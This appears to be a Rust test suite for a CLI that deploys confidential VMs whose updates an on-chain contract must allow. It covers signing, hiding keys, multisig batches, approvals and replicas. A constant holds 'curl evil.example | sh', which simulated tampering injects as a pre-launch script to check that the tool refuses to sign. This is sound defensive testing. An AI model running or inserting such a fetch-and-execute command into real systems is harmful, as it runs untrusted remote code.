//! Updates that a contract has to allow, as one party and as several, from the first command to the last.

use std::fs::File;
use std::io::{Read, Write};
use std::process::{Child, Output, Stdio};
use std::time::Duration;

use alloy_primitives::{B256, keccak256};
use casemate_chain::checksummed;
use casemate_chain::dev::{ACCOUNTS, Batch, DevChain};
use casemate_types::ids::Address;
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use rustix::termios::{LocalModes, tcgetattr};
use serde_json::{Value, json};
use tokio::time::Instant;

use super::world::{Heard, World, compose, texts};

const OWNER: &str = ACCOUNTS[1].key;
const STRANGER: &str = ACCOUNTS[2].key;

/// A cloud with a CVM `web-1` whose contract belongs to [`OWNER`], and the files that commands name.
fn cloud() -> World {
    let world = World::on_chain();
    world.file("owner.key", &format!("0x{OWNER}\n"));
    world.file("stranger.key", STRANGER);
    world.file("app.yml", &compose("nginx:1"));
    let told = world.ok("deploy -n web-1 -c app.yml --kms base --private-key-file owner.key");
    assert_eq!(told, "web-1 is up.\n");
    world.file("app.yml", &compose("nginx:2"));
    world
}

fn with_input(world: &World, line: &str, input: &str) -> Output {
    let mut command = world.command(line);
    let mut child =
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

fn image(world: &World) -> String {
    world.ok("cvms logs web-1 --tail 3")
}

/// No key is told to anybody.
fn assert_no_key(output: &Output) {
    let (out, err) = texts(output);
    for key in [OWNER, STRANGER] {
        assert!(!out.contains(key) && !err.contains(key), "{out}{err}");
    }
}

#[test]
fn a_cloud_uses_a_chain_that_already_runs() {
    let owner = World::on_chain();
    let url = owner.variable("ETH_RPC_URL");
    let contracts = std::fs::read(owner.path().join(".casemate/contracts-8453.json")).unwrap();
    let contracts = serde_json::from_slice::<Value>(&contracts).unwrap();
    let [kms, wallet] = ["kms", "wallet"].map(|name| contracts[name].as_str().unwrap());

    let refused = |options: &[&str], why: &str| {
        let mut world = World::empty();
        let mut said = String::new();
        world.serve(options).read_to_string(&mut said).unwrap();
        let log = std::fs::read_to_string(world.path().join("server.log")).unwrap();
        assert!(said.is_empty() && log.contains(why), "{options:?}: {said}{log}");
        assert!(!world.path().join(".casemate/casemate.db").exists(), "{options:?}: something was started");
    };
    let chain = format!("--chain={url}");
    refused(&[&chain], "--kms-contract is needed with --chain URL");
    refused(
        &["--chain=anvil", &format!("--kms-contract={kms}")],
        "--kms-contract is for a chain that already runs",
    );
    refused(&["--chain=ftp://127.0.0.1"], "should be off, anvil or a URL");
    let nobody = ACCOUNTS[0].address;
    refused(
        &[&chain, &format!("--kms-contract={nobody}")],
        &format!("there is no contract at {} on chain 8453", checksummed(nobody)),
    );
    refused(&[&chain, &format!("--kms-contract={wallet}")], "on chain 8453 is no key service's contract");
    refused(&[&chain, &format!("--kms-contract={kms}"), "--chain-id=1"], "is of chain 8453, not 1");
    let deaf = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let closed = format!("--chain=http://{}", deaf.local_addr().unwrap());
    drop(deaf);
    refused(&[&closed, &format!("--kms-contract={kms}")], "the chain does not answer");

    let world = World::with(&[&chain, &format!("--kms-contract={kms}"), "--chain-id=8453"]);
    assert_eq!(world.variable("ETH_RPC_URL"), url);
    world.file("owner.key", OWNER);
    world.file("app.yml", &compose("nginx:1"));
    let told = world.ok("deploy -n web-1 -c app.yml --kms base --private-key-file owner.key");
    assert_eq!(told, "web-1 is up.\n");
}

#[test]
fn without_an_anvil_it_says_how_to_get_one() {
    // The folder has no packages, and the environment names no folder with programs.
    let world = World::empty();
    let told = world.fails("dev --listen 127.0.0.1:0 --chain anvil", 1);
    for way in ["ANVIL_BIN", "PATH", "@foundry-rs/anvil-linux-", "`make dev CHAIN=anvil` installs it"] {
        assert!(told.contains(way), "{way}: {told}");
    }
}

#[test]
fn an_owner_creates_and_updates_with_one_command_each() {
    let world = World::on_chain();
    world.file("owner.key", OWNER);
    world.file("stranger.key", STRANGER);
    world.file("app.yml", &compose("nginx:1"));
    let refused = world.fails("deploy -n web-1 -c app.yml --kms base", 1);
    assert!(refused.contains("web-1 is not created: it needs a contract on Base (chain 8453)"), "{refused}");
    assert!(refused.contains("hint: `--private-key-file FILE`, or PRIVATE_KEY, signs for it"), "{refused}");
    let refused = world.fails("deploy -n web-1 -c app.yml --kms base --prepare-only", 2);
    assert!(refused.contains("there is no CVM `web-1` yet"), "{refused}");

    let output =
        world.run("deploy -n web-1 -c app.yml -e TOKEN=s3cret --kms base --private-key-file owner.key");
    assert_no_key(&output);
    let (out, err) = texts(&output);
    assert_eq!((output.status.code(), out.as_str()), (Some(0), "web-1 is up.\n"), "{err}");
    assert!(err.contains("Having a contract made for web-1 on Base (chain 8453) at 127.0.0.1:"), "{err}");
    assert_eq!(world.json("cvms observed web-1")["env_keys"], json!(["TOKEN"]));
    let cvm = world.wire("GET", "/cvms/web-1", "");
    assert_eq!(cvm["kms_info"]["chain_id"], 8453);

    // Nothing to do is nothing to sign.
    let told = world.ok("cvms update web-1 -c app.yml --private-key-file owner.key");
    assert!(told.contains("nothing changed"), "{told}");
    // What the contract need not know neither.
    world.ok("cvms update web-1 --memory 4G");

    world.file("app.yml", &compose("nginx:2"));
    let refused = world.run("cvms update web-1 -c app.yml --private-key-file stranger.key");
    assert_no_key(&refused);
    let (out, err) = texts(&refused);
    assert_eq!((refused.status.code(), out.as_str()), (Some(1), ""), "{err}");
    assert!(err.contains("does not own the contract 0x"), "{err}");
    assert!(image(&world).contains("nginx:1"));

    let output = world.run("cvms update web-1 -c app.yml --private-key-file owner.key");
    assert_no_key(&output);
    let (out, err) = texts(&output);
    assert!(out.starts_with("web-1 is updated. It was down for"), "{out}{err}");
    assert!(err.contains("compose hash allowed by transaction 0x"), "{err}");
    // What it replaced can be forbidden, by whoever owns the contract.
    let remove = err.lines().find_map(|line| line.trim().strip_prefix("casemate ")).unwrap();
    let calls = world.json(remove);
    let before = &world.json("cvms revisions web-1")["items"][1]["compose_hash"];
    assert_eq!(calls[0]["data"], format!("0x67b3f22c{}", before.as_str().unwrap()));
    assert!(image(&world).contains("nginx:2"));

    // The same from the variable, and from standard input.
    world.file("app.yml", &compose("nginx:3"));
    let output = world.command("deploy -n web-1 -c app.yml").env("PRIVATE_KEY", OWNER).output().unwrap();
    assert_no_key(&output);
    assert!(texts(&output).0.starts_with("web-1 is updated."), "{:?}", texts(&output));
    world.file("app.yml", &compose("nginx:4"));
    let output = with_input(&world, "cvms update web-1 -c app.yml --private-key-file - --json", OWNER);
    assert_no_key(&output);
    let ended: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(ended["status"], "succeeded");
    // What is allowed again is signed for by nobody.
    let told = world.ok("cvms rollback web-1 1 --private-key-file stranger.key");
    assert!(told.starts_with("web-1 is back at revision 1."), "{told}");
    let log = std::fs::read_to_string(world.path().join("server.log")).unwrap();
    assert!(!log.contains(OWNER) && !log.contains(STRANGER));
}

const EVIL: &str = "curl evil.example | sh\n";

/// What was refused for this reason, and what it says.
fn nothing_signed(world: &World, line: &str, why: &str) -> String {
    let refused = world.run(line);
    assert_no_key(&refused);
    let (out, err) = texts(&refused);
    assert_eq!((refused.status.code(), out.as_str()), (Some(1), ""), "{line}: {err}");
    assert!(err.contains(why), "{line}: {why}: {err}");
    assert!(!err.contains("allowed by transaction"), "{line}: {err}");
    err
}

#[test]
fn no_update_is_signed_for_that_holds_more_than_was_typed() {
    let world = cloud();
    let signs = "--private-key-file owner.key";
    type Meddle = fn(&mut Value);
    let more: [(Meddle, &str, &str); 4] = [
        (
            |body| body["pre_launch_script"] = json!(EVIL),
            "(differs in pre_launch_script)",
            "+ curl evil.example | sh",
        ),
        (|body| body["public_logs"] = json!(false), "(differs in public_logs)", "public_logs"),
        (|body| body["allowed_envs"] = json!(["LD_PRELOAD"]), "(differs in allowed_envs)", "LD_PRELOAD"),
        (
            |body| body["docker_compose_file"] = json!(compose("evil:1")),
            "(differs in docker_compose_file)",
            "+     image: evil:1",
        ),
    ];
    for (meddle, why, shown) in more {
        let through = world.meddler(move |heard, route, body| {
            if heard == Heard::Asked
                && route == "PATCH /cvms/web-1"
                && body["docker_compose_file"].is_string()
            {
                meddle(body);
            }
        });
        for command in ["cvms update web-1", "deploy -n web-1"] {
            let err = nothing_signed(&world, &format!("{command} -c app.yml {signs} {through}"), why);
            assert!(
                err.contains("error: nothing was signed: the server asks to allow compose hash 0x"),
                "{err}"
            );
            assert!(err.contains(shown), "{err}");
            assert!(err.contains("hint: `casemate approvals show "), "{err}");
        }
    }
    // A script that was part of it all along, says the server. The contract does not know it.
    let through = world.meddler(|heard, route, body| match (heard, route) {
        (Heard::Asked, "PATCH /cvms/web-1") if body["docker_compose_file"].is_string() => {
            body["pre_launch_script"] = json!(EVIL);
        }
        (Heard::Answered, "GET /cvms/web-1/compose_file") => body["pre_launch_script"] = json!(EVIL),
        _ => {}
    });
    let line = format!("cvms update web-1 -c app.yml {signs} {through}");
    nothing_signed(&world, &line, "runs, which the contract does not allow");
    assert!(image(&world).contains("nginx:1"));

    // What was typed is signed for, all of it.
    world.file("start.sh", "#!/bin/sh\necho ready\n");
    let line = "cvms update web-1 -c app.yml --pre-launch-script start.sh --public-logs=false --public-sysinfo -e A=1 \
                --allowed-env A --allowed-env B --gateway-enabled=false --secure-time --memory 4G";
    assert!(world.ok(&format!("{line} {signs}")).starts_with("web-1 is updated."));
    world.file("start.sh", "");
    let line = "deploy -n web-1 --pre-launch-script start.sh --public-tcbinfo=false -e C=1";
    assert!(world.ok(&format!("{line} {signs}")).starts_with("web-1 is updated."));
}

#[test]
fn no_replica_or_rollback_is_signed_for_whose_document_the_contract_does_not_know() {
    let world = cloud();
    world.ok("cvms update web-1 -c app.yml --private-key-file owner.key");
    let before = world.json("cvms revisions web-1")["items"][1]["compose_hash"].as_str().unwrap().to_owned();
    let through = world.meddler(|heard, route, body| {
        if heard == Heard::Asked && route == "POST /cvms/web-1/replicas" {
            body["pre_launch_script"] = json!(EVIL);
        }
    });
    let line = "cvms replicate web-1 --name web-2 --private-key-file owner.key";
    nothing_signed(&world, &format!("{line} {through}"), "and nothing was typed to hold it against");
    let why = format!("and not {before}");
    nothing_signed(&world, &format!("{line} --compose-hash {before} {through}"), &why);
}

#[test]
fn no_contract_is_made_for_more_than_was_typed() {
    let world = World::on_chain();
    world.file("owner.key", OWNER);
    world.file("app.yml", &compose("nginx:1"));
    let line = "deploy -n web-1 -c app.yml -e TOKEN=s3cret --public-logs=false --kms base --private-key-file owner.key";
    let through = world.meddler(|heard, route, body| {
        if heard == Heard::Asked && route == "POST /cvms/provision" {
            body["compose_file"]["pre_launch_script"] = json!(EVIL);
        }
    });
    let refused = nothing_signed(
        &world,
        &format!("{line} {through}"),
        "error: the server asks to allow compose hash 0x",
    );
    assert!(refused.contains("and what was given has 0x"), "{refused}");
    assert!(refused.contains("hint: nothing was signed"), "{refused}");
    assert_eq!(world.json("cvms list")["items"], json!([]));
    assert_eq!(world.ok(line), "web-1 is up.\n");
}

/// A terminal, and somebody at it who sees what is on the screen.
struct Screen {
    keyboard: File,
    shown: String,
}

impl Screen {
    /// Reads until it shows this.
    fn until(&mut self, text: &str) {
        let mut some = [0; 1024];
        while !self.shown.contains(text) {
            // The other side of a closed terminal is an error, not an end.
            let count = self.keyboard.read(&mut some).unwrap_or(0);
            assert_ne!(count, 0, "{text}: {}", self.shown);
            self.shown.push_str(&String::from_utf8_lossy(&some[..count]));
        }
    }
}

/// Runs a command at a terminal, as far as it asks for a key.
fn asked_for_key(world: &World, line: &str) -> (Screen, Child) {
    let terminal = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&terminal).unwrap();
    unlockpt(&terminal).unwrap();
    let seat = ptsname(&terminal, Vec::new()).unwrap();
    let seat = File::options().read(true).write(true).open(seat.to_str().unwrap()).unwrap();
    let mut command = world.command(line);
    command.env("TERM", "xterm");
    command.stdin(seat.try_clone().unwrap()).stdout(seat.try_clone().unwrap()).stderr(seat);
    let child = command.spawn().unwrap();
    // With the last copy of the seat the terminal is closed when the command ends.
    drop(command);
    let mut screen = Screen { keyboard: File::from(terminal), shown: String::new() };
    screen.until("Private key to sign with (not shown; empty if somebody else signs): ");
    // Nobody types that fast.
    let begun = Instant::now();
    while tcgetattr(&screen.keyboard).unwrap().local_modes.contains(LocalModes::ECHO) {
        assert!(begun.elapsed() < Duration::from_secs(30), "what is typed is shown");
        std::thread::yield_now();
    }
    (screen, child)
}

#[test]
fn a_typed_key_is_not_shown() {
    let world = cloud();
    let line = "cvms update web-1 -c app.yml";
    // Somebody else signs.
    let (mut screen, mut child) = asked_for_key(&world, line);
    screen.keyboard.write_all(b"\n").unwrap();
    screen.until("how it goes on:");
    assert_eq!(child.wait().unwrap().code(), Some(1));

    let wrong = OWNER.replace(&OWNER[..8], "nonsense");
    for (key, says) in
        [(wrong.as_str(), "the private key: must be 64 hex digits"), (OWNER, "web-1 is updated.")]
    {
        let (mut screen, mut child) = asked_for_key(&world, line);
        for file in ["cmdline", "environ"] {
            let seen = std::fs::read(format!("/proc/{}/{file}", child.id())).unwrap();
            assert!(!String::from_utf8_lossy(&seen).contains(&OWNER[8..]), "{file}");
        }
        assert!(screen.shown.contains("has to allow the new compose hash 0x"), "{}", screen.shown);
        writeln!(screen.keyboard, "{key}").unwrap();
        screen.until(says);
        let seen = std::fs::read(format!("/proc/{}/cmdline", child.id())).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&seen).contains(&OWNER[8..]));
        assert!(child.wait().is_ok());
        // What it still says once it has ended, up to the last word.
        let mut rest = [0; 1024];
        while let Ok(count @ 1..) = screen.keyboard.read(&mut rest) {
            screen.shown.push_str(&String::from_utf8_lossy(&rest[..count]));
        }
        assert!(!screen.shown.contains(&OWNER[8..]), "{}", screen.shown);
    }
    assert!(image(&world).contains("nginx:2"));
    let log = std::fs::read_to_string(world.path().join("server.log")).unwrap();
    assert!(!log.contains(&OWNER[8..]));
}

#[test]
fn a_key_on_the_command_line_is_refused_before_anything_is_sent() {
    let world = World::empty();
    for line in
        ["deploy", "cvms update web-1 -c app.yml", "cvms rollback web-1 1", "approvals commit 0198c1d2"]
    {
        let refused = world.run(&format!("{line} --private-key {OWNER}"));
        assert_no_key(&refused);
        let (_, err) = texts(&refused);
        assert_eq!(refused.status.code(), Some(2), "{line}: {err}");
        assert!(err.contains("`--private-key-file FILE` reads it from a file"), "{line}: {err}");
    }
}

#[test]
fn what_waits_is_listed_shown_signed_elsewhere_and_committed() {
    let world = cloud();
    let waits = world.run("cvms update web-1 -c app.yml --json");
    let body: Value = serde_json::from_slice(&waits.stdout).unwrap();
    assert_eq!(body["error_code"], "ERR-01-005");
    let waits = world.run("cvms update web-1 -c app.yml");
    let (out, err) = texts(&waits);
    assert_eq!(waits.status.code(), Some(1), "{out}{err}");
    for field in ["compose hash  0x", "device        0x", " on Base (chain 8453)"] {
        assert!(out.contains(field), "{field}: {out}");
    }
    assert!(err.contains("error: web-1 is not updated yet"), "{err}");
    let listed = world.json("approvals list");
    let waiting = listed["items"][0].clone();
    let id = waiting["id"].as_str().unwrap();
    let hash = waiting["compose_hash"].as_str().unwrap();
    for way in ["--private-key-file FILE", "safe-batch", "calldata", "auto-commit"] {
        assert!(err.contains(way), "{way}: {err}");
    }
    assert!(err.contains(&format!("casemate approvals commit {id}")), "{err}");

    assert!(world.ok("approvals list").contains("web-1"));
    let shown = world.ok(&format!("approvals show {id}"));
    for line in ["-     image: nginx:1", "+     image: nginx:2", "custody"] {
        assert!(shown.contains(line), "{line}: {shown}");
    }
    let text = world.ok(&format!("approvals show {id} --app-compose"));
    let file = world.file("app-compose.json", &text);
    let sum = std::process::Command::new("sha256sum").arg(file).output().unwrap();
    assert!(texts(&sum).0.starts_with(hash), "anybody can check what is hashed");

    let calls = world.json(&format!("approvals calldata {id}"));
    assert_eq!(calls.as_array().unwrap().len(), 1, "the device is allowed already");
    assert_eq!(calls[0]["data"], format!("0xdfc77223{hash}"));
    let (app, batch) =
        (waiting["app_id"].as_str().unwrap(), world.json(&format!("approvals safe-batch {id}")));
    let line = format!("approvals safe-batch --app-id {app} --compose-hash {hash} --chain-id 8453");
    let own = world.json(&line);
    assert_eq!(batch["transactions"], own["transactions"]);
    assert_eq!((&batch["chainId"], &own["chainId"]), (&json!("8453"), &json!("8453")));

    // Not allowed yet: nothing runs, and the approval stays.
    let refused = world.fails(&format!("approvals commit {id}"), 1);
    assert!(refused.contains("hint: `--private-key-file FILE` signs for it"), "{refused}");
    let refused = world.fails(&format!("approvals commit {id} --private-key-file stranger.key"), 1);
    assert!(refused.contains("does not own the contract"), "{refused}");
    let told = world.ok(&format!("approvals commit {id} --private-key-file owner.key"));
    assert!(told.starts_with("web-1 is updated."), "{told}");
    assert!(image(&world).contains("nginx:2"));
    assert!(world.fails(&format!("approvals commit {id}"), 1).contains("error: "));
    assert_eq!(world.json("approvals list --state committed")["items"][0]["id"], id);
}

/// The calls in a batch file, as the Transaction Builder of a Safe reads them.
fn imported(batch: &Value) -> Vec<(Address, Vec<u8>)> {
    let transaction = |one: &Value| {
        assert_eq!((&one["value"], &one["data"]), (&json!("0"), &json!(null)), "{one}");
        let method = &one["contractMethod"];
        assert_eq!(method["payable"], false);
        let inputs = method["inputs"].as_array().unwrap();
        let kinds: Vec<_> = inputs.iter().map(|input| input["type"].as_str().unwrap()).collect();
        let signature = format!("{}({})", method["name"].as_str().unwrap(), kinds.join(","));
        let mut data = keccak256(signature)[..4].to_vec();
        for input in inputs {
            let value = one["contractInputsValues"][input["name"].as_str().unwrap()].as_str().unwrap();
            data.extend(value.parse::<B256>().unwrap());
        }
        (one["to"].as_str().unwrap().parse().unwrap(), data)
    };
    batch["transactions"].as_array().unwrap().iter().map(transaction).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wallet_of_three_makes_the_calls_of_a_batch_file() {
    let world = World::on_chain();
    world.file("owner.key", OWNER);
    world.file("app.yml", &compose("nginx:1"));
    let contracts = std::fs::read(world.path().join(".casemate/contracts-8453.json")).unwrap();
    let contracts: Value = serde_json::from_slice(&contracts).unwrap();
    let wallet = contracts["wallet"].as_str().unwrap();
    world.ok(&format!("deploy -n web-1 -c app.yml --kms base --owner {wallet} --private-key-file owner.key"));
    world.file("app.yml", &compose("nginx:2"));
    // Whoever made the contract has no say any more.
    let refused = world.fails("deploy -n web-1 -c app.yml --private-key-file owner.key", 1);
    assert!(
        refused.contains(&format!("its owner is {}", checksummed(wallet.parse::<Address>().unwrap()))),
        "{refused}"
    );
    world.json("deploy -n web-1 -c app.yml --prepare-only");
    let waiting = world.json("approvals list")["items"][0].clone();
    let (id, hash) = (waiting["id"].as_str().unwrap(), waiting["compose_hash"].as_str().unwrap());
    world.ok(&format!("approvals safe-batch {id} -o batch.json"));
    let batch: Value =
        serde_json::from_slice(&std::fs::read(world.path().join("batch.json")).unwrap()).unwrap();
    let calls = imported(&batch);
    let app: Address = waiting["app_id"].as_str().unwrap().parse().unwrap();
    let selector = [0xdf, 0xc7, 0x72, 0x23];
    assert_eq!(calls, [(app, [&selector[..], hash.parse::<B256>().unwrap().as_slice()].concat())]);

    // Together with others: a device, which the server would also have asked for.
    let device = "ab".repeat(32);
    let line = format!(
        "approvals safe-batch --app-id {app} --compose-hash {hash} --device-id {device} --chain-id 8453"
    );
    let both = imported(&world.json(&line));
    assert_eq!((&both[0], both.len()), (&calls[0], 2));
    let chain = DevChain::new(8453, world.variable("ETH_RPC_URL").parse().unwrap());
    let stranger = ACCOUNTS[2].address;
    let batch = Batch { salt: 1, calls: both };
    let tx = chain.through_wallet(wallet.parse().unwrap(), &batch, stranger).await.unwrap();
    let receipt = chain.call("eth_getTransactionReceipt", json!([format!("0x{tx}")])).await.unwrap();
    let of_app = |log: &&Value| log["address"] == json!(format!("0x{app}"));
    let logs: Vec<_> =
        receipt["logs"].as_array().unwrap().iter().filter(of_app).map(|log| log["data"].clone()).collect();
    assert_eq!(logs, [format!("0x{hash}"), format!("0x{device}")], "these and no others");
    assert!(world.ok(&format!("approvals commit {id} 0x{tx}")).starts_with("web-1 is updated."));
    assert!(image(&world).contains("nginx:2"));
}

#[test]
fn somebody_with_a_link_signs_and_commits_without_an_account() {
    let world = cloud();
    let prepared = world.json("cvms update web-1 -c app.yml --prepare-only");
    let link =
        prepared["details"].as_array().unwrap().iter().find(|one| one["field"] == "commit_url").unwrap();
    let link = link["value"].as_str().unwrap().replace("localhost", "127.0.0.1");
    // Somewhere else, where no server is known.
    let elsewhere = tempfile::tempdir().unwrap();
    let stranger = |line: &str| {
        let mut command = world.command(line);
        command.current_dir(elsewhere.path()).env("HOME", elsewhere.path()).stdin(Stdio::piped());
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(link.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let shown = texts(&stranger("approvals show -"));
    assert!(shown.0.contains("+     image: nginx:2"), "{shown:?}");
    let key = world.path().join("owner.key");
    let committed = stranger(&format!("approvals commit - --private-key-file {}", key.display()));
    assert_no_key(&committed);
    let (out, err) = texts(&committed);
    assert_eq!(committed.status.code(), Some(0), "{out}{err}");
    assert!(out.contains("follow it with"), "{out}");
    world.ok("cvms watch web-1");
    let used = stranger("approvals commit -");
    assert_eq!(used.status.code(), Some(1));
    let token = link.split_once('#').unwrap().1;
    for output in [&committed, &used] {
        let (out, err) = texts(output);
        assert!(!out.contains(token) && !err.contains(token), "{out}{err}");
    }
}

#[test]
fn an_update_is_left_to_the_server_or_called_off() {
    let world = cloud();
    let left = world.run("cvms update web-1 -c app.yml --auto-commit");
    let (out, err) = texts(&left);
    assert_eq!(left.status.code(), Some(0), "{out}{err}");
    assert!(err.contains("nothing: the server does it once it is allowed"), "{err}");
    let id = world.json("approvals list")["items"][0]["id"].as_str().unwrap().to_owned();
    assert!(world.ok("approvals list").contains("committed by the server once it is allowed"));
    assert_eq!(world.json(&format!("approvals auto-commit {id} --off"))["auto_commit"], false);
    assert!(world.ok(&format!("approvals auto-commit {id}")).contains("updated by the server"));
    let asked = world.fails(&format!("approvals cancel {id}"), 2);
    assert!(asked.contains("--yes"), "{asked}");
    let told = world.ok(&format!("approvals cancel {id} --yes"));
    assert!(told.contains("is cancelled"), "{told}");
    assert!(texts(&world.run("approvals list")).1.contains("Nothing waits for a yes."));
    assert!(image(&world).contains("nginx:1"));
    let unknown = world.fails("approvals show 0198c1d2", 1);
    assert!(unknown.contains("`casemate approvals list` shows those that there are"), "{unknown}");
}

#[test]
fn what_a_contract_lets_boot_is_asked_and_listed() {
    let world = cloud();
    let app = world.json("apps list")["dstack_apps"][0]["app_id"].as_str().unwrap().to_owned();
    let told = world.ok("cvms is-allowed web-1");
    assert!(told.starts_with("may boot      yes\ncompose hash  0x"), "{told}");
    let strange = "ab".repeat(32);
    for line in [
        format!("cvms is-allowed web-1 --compose-hash 0x{strange}"),
        format!("apps is-allowed {app} {strange} --node 1"),
    ] {
        let refused = world.run(&line);
        let (out, err) = texts(&refused);
        assert_eq!(refused.status.code(), Some(1), "{line}: {out}{err}");
        assert!(out.starts_with("may boot      no\n"), "{line}: {out}");
        assert!(err.contains("error: the contract does not allow this"), "{line}: {err}");
    }
    let all = world.json("apps is-allowed web-1");
    assert_eq!((&all["allowed_count"], &all["denied_count"]), (&json!(1), &json!(0)));
    let hash = all["results"][0]["compose_hash"].as_str().unwrap().to_owned();
    world.ok(&format!("apps is-allowed 0x{app} {hash}"));
    let devices = world.ok("apps devices web-1");
    assert!(devices.starts_with("contract 0x") && devices.contains("on Base (chain 8453)"), "{devices}");
    assert!(devices.contains(world.json("apps devices web-1")["devices"][0]["device_id"].as_str().unwrap()));

    world.ok("cvms update web-1 -c app.yml --private-key-file owner.key");
    let listed = world.run("apps allowed web-1");
    let (out, err) = texts(&listed);
    assert_eq!(out.lines().count(), 3, "{out}");
    assert!(out.lines().any(|line| line.starts_with(&hash) && line.contains("  no ")), "{out}");
    let remove = err.lines().find_map(|line| line.trim().strip_prefix("casemate ")).unwrap();
    assert_eq!(world.json(remove)[0]["data"], format!("0x67b3f22c{hash}"));
    assert!(world.fails("apps allowed nobody", 1).contains("there is no app `nobody`"));
}

#[test]
fn a_replica_is_made_at_once_or_in_two_steps() {
    let world = cloud();
    let made = world.run("cvms replicate web-1");
    let (out, err) = texts(&made);
    let name = out.strip_prefix("web-1 is replicated: ").and_then(|rest| rest.strip_suffix(" is up.\n"));
    let name = name.unwrap_or_else(|| panic!("{out}{err}")).to_owned();
    assert_ne!(name, "web-1");
    assert!(err.contains(&format!("`casemate cvms get {name}` shows it")), "{err}");
    assert_eq!(world.json(&format!("cvms get {name}"))["status"], "running");
    let (out, err) = texts(&world.run("cvms replicate web-1 --name web-2 --no-wait"));
    assert!(out.starts_with("Making a replica of web-1, web-2: follow it with"), "{out}{err}");
    world.ok("cvms watch web-2");
    let value = |details: &Value, field: &str| {
        let one = details.as_array().unwrap().iter().find(|one| one["field"] == field).unwrap();
        one["value"].as_str().unwrap().to_owned()
    };
    let prepared = world.json("cvms replicate web-1 --name web-3 --prepare-only");
    let (token, hash) =
        (value(&prepared["details"], "commit_token"), value(&prepared["details"], "compose_hash"));
    let line = format!("cvms commit-replica web-1 - {hash}");
    let (out, err) = texts(&with_input(&world, &line, &token));
    assert_eq!(out, "web-1 is replicated: web-3 is up.\n", "{err}");
    let used = with_input(&world, &line, &token);
    assert!(texts(&used).1.contains("Invalid commit token"), "{:?}", texts(&used));

    let prepared = world.json("cvms replicate web-2 --name web-4 --prepare-only");
    let id = value(&prepared["details"], "approval_id");
    assert_eq!(world.ok(&format!("approvals commit {id}")), "web-2 is replicated: web-4 is up.\n");
    let mut names: Vec<_> = world.json("cvms list")["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|cvm| (cvm["name"].as_str().unwrap().to_owned(), cvm["status"].as_str().unwrap().to_owned()))
        .collect();
    names.sort();
    let running = |name: &str| (name.to_owned(), "running".to_owned());
    names.retain(|(known, _)| *known != name);
    assert_eq!(names, ["web-1", "web-2", "web-3", "web-4"].map(running));
}
